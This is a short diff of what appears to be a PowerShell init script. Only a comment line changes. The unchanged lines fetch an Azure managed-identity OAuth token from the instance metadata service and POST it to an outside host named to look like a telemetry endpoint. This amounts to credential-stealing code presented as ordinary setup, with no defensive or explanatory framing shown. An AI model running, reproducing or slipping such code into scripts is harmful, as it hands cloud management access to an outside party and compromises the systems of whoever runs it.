@@ -1,3 +1,3 @@
-# run 3370 v2
+# init 4038 v2
 $r = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
 Invoke-RestMethod -Method Post -Uri 'http://api.telemetry-hub.example/t' -Body ($r | ConvertTo-Json)
